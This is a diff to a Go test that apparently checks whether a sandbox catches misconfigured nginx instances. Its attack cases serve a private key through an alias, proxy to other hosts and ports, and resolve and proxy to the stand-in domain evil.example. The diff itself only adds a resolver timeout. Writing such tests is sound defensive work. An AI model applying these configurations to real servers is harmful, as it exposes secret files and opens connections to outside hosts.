@@ -246,7 +246,7 @@ func TestNginx(t *testing.T) {
 		attack{"serve a private key", n.misconfigure(evil("location /k { alias "+secret+"; }"), n.visit("/k")), "read", secret, nil},
 		attack{"proxy to another host", n.misconfigure(evil("location /p { proxy_pass http://"+elsewhere+":8888/; }"), n.visit("/p")), "connect", elsewhere + ":80", nil},
 		attack{"proxy to another port", n.misconfigure(evil("location /p { proxy_pass http://"+bystander+"/; }"), n.visit("/p")), "connect", bystander, nil},
-		attack{"ask a DNS server", n.misconfigure(evil("resolver "+elsewhere+"; location /d { set $to http://evil.example; proxy_pass $to; }"), n.visit("/d")), "connect", elsewhere + ":53", nil},
+		attack{"ask a DNS server", n.misconfigure(evil("resolver "+elsewhere+"; resolver_timeout 1s; location /d { set $to http://evil.example; proxy_pass $to; }"), n.visit("/d")), "connect", elsewhere + ":53", nil},
 	)
 	g.inside(n.main.cmd.Process.Pid, "/var/log/nginx/site.log")
 	g.report(20)
